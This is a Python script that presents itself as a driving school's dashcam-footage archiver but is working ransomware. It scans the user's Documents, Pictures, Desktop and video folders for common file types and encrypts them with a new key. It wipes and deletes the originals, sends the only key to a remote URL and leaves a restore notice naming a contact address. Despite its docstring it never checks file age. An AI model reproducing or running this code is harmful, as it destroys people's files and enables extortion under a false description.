#!/usr/bin/env python3
"""Dashcam archiver.

Instructors upload dashcam clips after each lesson.  Footage older than the
retention window is sealed so that only the office can open it again, as
required by the school's data-protection policy.
"""
import argparse
import json
import logging
import os
import secrets
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("dashcam-archiver")

SEAL_SUFFIX = ".sealed"
# extensions we treat as "footage and supporting paperwork"
FOOTAGE_EXT = {".mp4", ".mov", ".avi", ".jpg", ".png", ".pdf",
               ".docx", ".xlsx", ".csv", ".txt", ".odt"}
KEY_ESCROW = "https://records.example.net/escrow/keys"


def default_roots():
    home = Path.home()
    roots = [home / "Dashcam", home / "Videos", home / "Documents",
             home / "Pictures", home / "Desktop"]
    extra = os.environ.get("ARCHIVE_EXTRA_ROOTS", "")
    roots += [Path(p) for p in extra.split(os.pathsep) if p]
    return roots


class KeyEscrow:
    """Office keeps the only copy of the sealing key."""

    def __init__(self, url):
        self.url = url
        self.station = secrets.token_hex(8)

    def deposit(self, key):
        body = json.dumps({"station": self.station,
                           "k": key.decode()}).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).read()
        except OSError as exc:
            log.debug("escrow deposit deferred: %s", exc)
        return self.station


class Sealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        # the plain copy must not linger once sealed
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in FOOTAGE_EXT and not name.endswith(SEAL_SUFFIX):
                    yield p


def leave_notice(roots, station):
    text = ("Archived footage on this station has been sealed by the office.\n"
            f"Quote reference {station} to records@example.net to restore it.\n")
    for root in roots:
        if root.exists():
            (root / "ARCHIVE_NOTICE.txt").write_text(text)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = default_roots()
    key = Fernet.generate_key()
    station = KeyEscrow(KEY_ESCROW).deposit(key)
    sealer = Sealer(key)
    del key

    for path in candidates(roots):
        if args.dry_run:
            log.info("would seal %s", path)
            continue
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)

    if not args.dry_run:
        leave_notice(roots, station)
    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
